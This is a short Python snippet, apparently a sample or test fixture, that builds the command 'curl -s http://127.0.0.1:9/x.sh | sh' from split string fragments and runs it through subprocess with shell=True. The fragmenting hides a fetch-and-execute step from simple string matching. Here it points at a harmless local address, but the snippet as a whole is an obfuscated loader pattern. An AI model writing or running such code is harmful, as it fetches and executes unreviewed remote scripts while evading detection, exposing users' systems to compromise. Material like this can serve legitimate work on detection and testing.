import subprocess
pieces = [
    "cu", "rl -s", " http://127.", "0.0.1:9/x.sh",
    " | s", "h"
]
command = "".join(pieces)
subprocess.run(command, shell=True)
